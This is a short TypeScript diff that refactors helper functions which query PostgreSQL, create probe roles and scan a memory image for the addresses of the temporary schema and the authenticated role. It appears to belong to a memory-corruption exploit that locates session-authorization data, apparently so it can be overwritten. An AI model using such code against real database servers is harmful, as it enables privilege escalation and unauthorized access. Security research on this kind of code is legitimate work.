@@ -76,12 +76,10 @@ function findTemporary(memory: Memory, loop: Loop): Pick<Places, 'temporary' | '
   const [row] = loop.ask(`select pg_catalog.pg_my_temp_schema(), (select t.oid from pg_catalog.pg_namespace n
     join pg_catalog.pg_namespace t on t.nspname = replace(n.nspname, 'pg_temp', 'pg_toast_temp') where n.oid = pg_catalog.pg_my_temp_schema())`)
   const [own, toast] = row!.map(Number)
-  const pairs = memory.variables(
-    (word, at) => word === own && [1, 2, 3, 4, 5, 6].some((step) => memory.words[at + step] === toast),
-  )
+  const pairs = memory.holding(own!).filter((place) => [4, 8, 12, 16, 20, 24].some((step) => memory.get(place + step) === toast))
   const temporary = only(pairs, 'the temporary schema')
   const temporaryToast = only(
-    memory.variables((word, at) => word === toast && at * 4 > temporary && at * 4 <= temporary + 24),
+    memory.holding(toast!).filter((place) => place > temporary && place <= temporary + 24),
     'the temporary schema of long values',
   )
   return {temporary, temporaryToast}
@@ -104,9 +102,9 @@ function findAuthenticated(memory: Memory, loop: Loop): number {
   const [row] = loop.ask(`create role "${PROBE} 1"; create role "${PROBE} 2"; grant "${PROBE} 2" to "${PROBE} 1";
     set session authorization "${PROBE} 1"; set role "${PROBE} 2"; select '"${PROBE} 1"'::regrole::oid, '"${PROBE} 2"'::regrole::oid`)
   const [session, role] = row!.map(Number)
-  const found = memory.variables((word, at) => {
-    const near = memory.words.subarray(at, at + 6)
-    return word === role && near[1] === role && near[2] === session && near[5] === 10
+  const found = memory.holding(role!).filter((place) => {
+    const near = memory.words.subarray(place >>> 2, (place >>> 2) + 6)
+    return near[1] === role && near[2] === session && near[5] === 10
   })
   loop.ask(`set session authorization postgres; drop role "${PROBE} 1"; drop role "${PROBE} 2"`)
   return only(found, 'the role that was let in') + 20
